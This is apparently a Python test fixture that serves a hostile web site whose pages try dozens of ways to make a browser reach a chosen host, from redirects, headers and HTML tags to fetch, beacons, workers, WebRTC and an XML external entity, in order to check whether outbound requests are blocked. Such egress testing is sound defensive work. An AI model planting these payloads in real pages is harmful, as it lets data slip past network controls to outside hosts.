"""Pages that try each way in which a browser can send a request to a server."""

from __future__ import annotations

from aiohttp import web

FROM_HEADERS = {
    **{f"http-{status}": (status, {"Location": "$"}) for status in (301, 302, 303, 307, 308)},
    "refresh-header": (200, {"Refresh": "0; url=$"}),
    "link-header": (200, {"Link": "<$>; rel=preload; as=script"}),
    "csp-report": (
        200,
        {"Content-Security-Policy": "default-src 'none'; report-uri $; script-src 'none'"},
    ),
    "report-to": (
        200,
        {
            "Report-To": '{"group":"g","max_age":99,"endpoints":[{"url":"$"}]}',
            "Reporting-Endpoints": 'g="$"',
            "NEL": '{"report_to":"g","max_age":99,"success_fraction":1}',
            "Content-Security-Policy": "default-src 'none'; report-to g",
        },
    ),
}
"""Status and headers of an attack, by its name. `$` stands for the URL to reach."""

FROM_HTML = {
    "meta-refresh": "<meta http-equiv=refresh content='0; url=$'>",
    "iframe": "<iframe src='$'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<img src=$>'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<img src=$>'></iframe>",
    "iframe-script": "<iframe src=\"javascript:'<img src=$>'\"></iframe>",
    "object": "<object data='$'></object>",
    "embed": "<embed src='$'>",
    "img": "<img src='$'>",
    "img-user": "<img src='$user'>",
    "img-srcset": "<img srcset='$ 1x, $ 2x'>",
    "picture": "<picture><source srcset='$'><img></picture>",
    "input-image": "<input type=image src='$'>",
    "background": "<table background='$'><tr><td>x</table>",
    "css-import": "<style>@import '$';</style>",
    "css-url": "<style>body { background: url($) }</style>",
    "css-font": "<style>@font-face { font-family: f; src: url($) } * { font-family: f }</style>x",
    "stylesheet": "<link rel=stylesheet href='$'>",
    "script": "<script src='$'></script>",
    "module": "<script type=module>import '$'</script>",
    "preload": "<link rel=preload as=image href='$'>",
    "modulepreload": "<link rel=modulepreload href='$'>",
    "prefetch": "<link rel=prefetch href='$'>",
    "preconnect": "<link rel=preconnect href='$'>",
    "dns-prefetch": "<link rel=dns-prefetch href='$'>",
    "prerender": "<link rel=prerender href='$'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["$"]}],'
    '"prerender":[{"urls":["$"]}]}</script>',
    "manifest": "<link rel=manifest href='$'>",
    "icon": "<link rel=icon href='$'>",
    "video": "<video src='$' preload=auto autoplay></video>",
    "poster": "<video poster='$'></video>",
    "audio": "<audio src='$' preload=auto></audio>",
    "track": "<video src=/none><track default src='$'></video>",
    "svg-image": "<svg><image href='$'/></svg>",
    "svg-use": "<svg><use href='$#a'/></svg>",
    "base": "<base href='$/'><img src=x>",
    "form-get": "<form action='$'></form><script>document.forms[0].submit()</script>",
    "form-post": "<form method=post action='$'></form><script>document.forms[0].submit()</script>",
    "img-redirect": "<img src='/to?url=$'>",
    "iframe-redirect": "<iframe src='/to?url=$'></iframe>",
    "script-redirect": "<script src='/to?url=$'></script>",
    "xslt": "<iframe src='/xml?url=$'></iframe>",
}
"""HTML of an attack, by its name."""

FROM_SCRIPTS = {
    "location": "location = '$'",
    "location-replace": "location.replace('$')",
    "late-location": "setTimeout(() => location.assign('$'), 300)",
    "open": "open('$')",
    "click": "Object.assign(document.createElement('a'), {href: '$', target: '_blank'}).click()",
    "ping": "Object.assign(document.createElement('a'), {href: '#', ping: '$'}).click()",
    "fetch": "fetch('$')",
    "fetch-no-cors": "fetch('$', {mode: 'no-cors', credentials: 'include'})",
    "fetch-post": "fetch('$', {method: 'POST', body: 'x', mode: 'no-cors'})",
    "fetch-keepalive": "fetch('$', {keepalive: true, mode: 'no-cors'})",
    "fetch-redirect": "fetch('/to?url=$', {mode: 'no-cors'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '$'); x.send()",
    "xhr-sync": "const x = new XMLHttpRequest(); x.open('GET', '$', false); x.send()",
    "beacon": "navigator.sendBeacon('$', 'x')",
    "beacon-unload": "onpagehide = () => navigator.sendBeacon('$', 'x'); location = '/ok'",
    "websocket": "new WebSocket('$ws')",
    "secure-websocket": "new WebSocket('$wss')",
    "event-source": "new EventSource('$')",
    "import": "import('$')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('$')`])))",
    "worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('$')`])))",
    "worker-websocket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('$ws')`])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('$')`])))",
    "service-worker": "navigator.serviceWorker.register('/worker.js?url=$')",
    "worklet": "new AudioContext().audioWorklet.addModule('$')",
    "paint-worklet": "CSS.paintWorklet.addModule('$')",
    "image": "new Image().src = '$'",
    "audio-element": "new Audio('$').play()",
    "font-face": "new FontFace('f', 'url($)').load()",
    "document-write": "document.write(`<img src='$'>`)",
    "shadow": "document.body.attachShadow({mode: 'closed'}).innerHTML = `<img src='$'>`",
    "blob-frame": "document.body.appendChild(document.createElement('iframe')).src ="
    " URL.createObjectURL(new Blob([`<img src='$'>`], {type: 'text/html'}))",
    "blob-location": "location = URL.createObjectURL("
    "new Blob([`<img src='$'>`], {type: 'text/html'}))",
    "web-transport": "new WebTransport('$tls')",
    "credentials": "navigator.credentials.get({identity: {providers: "
    "[{configURL: '$tls', clientId: '1'}]}})",
    "tls-fetch": "fetch('$tls', {mode: 'no-cors'})",
    "tls-location": "location = '$tls'",
    "webrtc": """
        const turn = p => [`turn:$hostport?transport=${p}`, `turns:$hostport?transport=${p}`]
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:$hostport'},
            {urls: [...turn('udp'), ...turn('tcp')], username: 'a', credential: 'b'}]})
        peer.createDataChannel('x')
        peer.createOffer().then(async offer => {
            await peer.setLocalDescription(offer)
            await peer.setRemoteDescription(
                {type: 'answer', sdp: offer.sdp.replace('actpass', 'active')})
            for (const [p, t] of [['udp', ''], ['tcp', ' tcptype passive']])
                await peer.addIceCandidate({sdpMid: '0',
                    candidate: `candidate:1 1 ${p} 2122260223 $host $port typ host${t}`})
        })""",
}
"""Script of an attack, by its name. `$ws`, `$wss` and `$tls` are the URL with another scheme."""

ATTACKS = (*FROM_HEADERS, *FROM_HTML, *FROM_SCRIPTS)

NEVER_ARRIVE = frozenset(
    {
        # These need user activation, a secure context, lucky timing, the full browser, or an
        # answer that a canary does not give. A canary does not read TLS either.
        "credentials",
        "csp-report",
        "img-user",
        "preconnect",
        "secure-websocket",
        "svg-use",
        "tls-fetch",
        "tls-location",
        "track",
        "webrtc",
        "xslt",
        "dns-prefetch",
        "icon",
        "manifest",
        "open",
        "click",
        "ping",
        "prerender",
        "report-to",
        "service-worker",
        "speculation",
        "web-transport",
        "worklet",
        "paint-worklet",
        "link-header",
    }
)
"""Attacks that may fail to reach even a server that is allowed."""

WITHOUT_BROWSER = frozenset(
    {"http-301", "http-302", "http-303", "http-307", "http-308", "meta-refresh", "refresh-header"}
)
"""Attacks that also work without a browser."""


def hostile_app(host: str, port: int) -> web.Application:
    """Return the site whose page `/attack/{name}` tries to reach `/{name}` on `host` and `port`."""
    hostport = f"{host}:{port}"

    def fill(text: str, name: str) -> str:
        for placeholder, value in (
            ("$hostport", hostport),
            ("$host", host.strip("[]")),
            ("$port", str(port)),
            ("$user", f"http://user:password@{hostport}/{name}"),
            ("$wss", f"wss://{hostport}/{name}"),
            ("$ws", f"ws://{hostport}/{name}"),
            ("$tls", f"https://{hostport}/{name}"),
            ("$", f"http://{hostport}/{name}"),
        ):
            # The placeholders of a template literal stay.
            text = text.replace("${", "\0").replace(placeholder, value).replace("\0", "${")
        return text

    async def attack(request: web.Request) -> web.Response:
        name = request.match_info["name"]
        status, headers = FROM_HEADERS.get(name, (200, {}))
        body = FROM_HTML.get(name, f"<script>{FROM_SCRIPTS.get(name, '')}</script>")
        return web.Response(
            status=status,
            headers={key: fill(value, name) for key, value in headers.items()},
            text=f"<!DOCTYPE html><body><p>{name}</p>{fill(body, name)}",
            content_type="text/html",
        )

    async def to(request: web.Request) -> web.Response:
        raise web.HTTPFound(request.query["url"])

    async def xml(request: web.Request) -> web.Response:
        url = request.query["url"]
        text = (
            f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{url}'?>"
            f"<!DOCTYPE a [<!ENTITY e SYSTEM '{url}'>]>"
            f"<a xmlns:xi='http://www.w3.org/2001/XInclude'>&e;<xi:include href='{url}'/>"
            f"<i xmlns='http://www.w3.org/1999/xhtml'><img xmlns='http://www.w3.org/1999/xhtml' "
            f"src='{url}'/></i></a>"
        )
        return web.Response(text=text, content_type="application/xml")

    async def worker(request: web.Request) -> web.Response:
        text = f"fetch('{request.query['url']}', {{mode: 'no-cors'}})"
        return web.Response(text=text, content_type="text/javascript")

    async def ok(request: web.Request) -> web.Response:
        return web.Response(text="<p>ok</p>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/attack/{name}", attack)
    app.router.add_get("/to", to)
    app.router.add_get("/xml", xml)
    app.router.add_get("/worker.js", worker)
    app.router.add_get("/ok", ok)
    return app
